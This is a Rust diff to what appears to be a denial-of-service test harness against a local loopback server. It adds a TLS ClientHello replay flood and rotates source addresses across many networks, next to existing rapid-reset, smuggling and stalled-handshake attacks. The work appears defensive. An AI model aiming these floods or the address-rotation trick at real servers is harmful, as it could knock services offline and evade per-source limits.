@@ -3,8 +3,8 @@
 mod insider;
 
 use std::net::{Ipv4Addr, SocketAddr};
-use std::sync::Arc;
 use std::sync::atomic::{AtomicU32, Ordering};
+use std::sync::{Arc, OnceLock};
 use std::time::Duration;
 
 use futures_util::future::BoxFuture;
@@ -80,6 +80,7 @@ attacks! {
     smuggling, 8, "HTTP/1.1: requests of two framings";
     tls_garbage, 16, "TLS: garbage";
     tls_handshakes, 8, "TLS: whole handshakes and nothing more";
+    tls_hellos, 256, "TLS: the same first message again and again, which costs nothing, and no word more";
     tls_silence, 1000, "TLS: handshakes that stop in the middle, 1,000 connections";
     rapid_reset, 4, "HTTP/2: rapid reset";
     made_you_reset, 4, "HTTP/2: made-you-reset";
@@ -184,12 +185,15 @@ async fn rest(mut stream: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<
     tokio::io::copy(&mut stream, &mut tokio::io::sink()).await.map(|_| ())
 }
 
-/// An address that nothing has come from so far, and of another network than the victim's.
+/// An address that nothing has come from so far, each time of another of 32,768 networks than the one before, none of which is the
+/// victim's.
 fn arrival() -> Ipv4Addr {
     static ARRIVALS: AtomicU32 = AtomicU32::new(0);
-    let [_, high, middle, low] = ARRIVALS.fetch_add(1, Ordering::Relaxed).to_be_bytes();
+    let number = ARRIVALS.fetch_add(1, Ordering::Relaxed);
+    let [_, host, ..] = (number << 1).to_be_bytes();
+    let [.., high, low] = number.to_be_bytes();
     // The victim is below these.
-    Ipv4Addr::new(127, 128 | high, middle, low)
+    Ipv4Addr::new(127, 128 | high, low, host)
 }
 
 /// Connects from an address of its own. From one alone, connections that are opened and closed leave hardly a port that is not waiting
@@ -356,6 +360,21 @@ async fn handshake(
 
 async fn tls_handshakes(target: Target, _: usize) -> std::io::Result<()> {
     handshake(&target, target.https, &target.host, &[]).await.map(drop)
+}
+
+/// The edge has calculated what it answers.
+async fn tls_hellos(target: Target, _: usize) -> std::io::Result<()> {
+    static HELLO: OnceLock<Vec<u8>> = OnceLock::new();
+    let hello = HELLO.get_or_init(|| {
+        let name = ServerName::try_from(target.host.clone()).unwrap();
+        let mut hello = Vec::new();
+        let mut client = rustls::ClientConnection::new(Arc::clone(&target.tls), name).unwrap();
+        client.write_tls(&mut hello).unwrap();
+        hello
+    });
+    let mut stream = arrive(target.https).await?;
+    stream.write_all(hello).await?;
+    stream.read_exact(&mut [0; 1]).await.map(drop)
 }
 
 async fn tls_silence(target: Target, _: usize) -> std::io::Result<()> {
